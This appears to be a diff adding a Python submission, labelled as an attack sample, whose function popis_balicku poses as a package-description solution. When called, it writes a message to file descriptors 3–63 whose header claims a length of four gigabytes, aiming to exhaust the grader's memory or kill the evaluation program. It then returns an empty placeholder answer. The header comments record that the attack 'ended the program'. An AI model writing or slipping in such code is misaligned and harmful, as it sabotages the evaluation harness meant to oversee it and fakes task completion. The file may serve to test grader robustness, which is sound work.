@@ -1,0 +1,16 @@
+# attacks: the grader's memory, by a message that says it has four gigabytes
+# base: right
+# hits: 11-12
+# verdicts: ended the program
+# says: Ukončila celý pro
+import os
+import struct
+
+
+def popis_balicku(balicek):
+    for number in range(3, 64):
+        try:
+            os.write(number, struct.pack('>cI', b'J', 2**32 - 1) + b'["value"')
+        except OSError:
+            pass
+    return '[   ]'
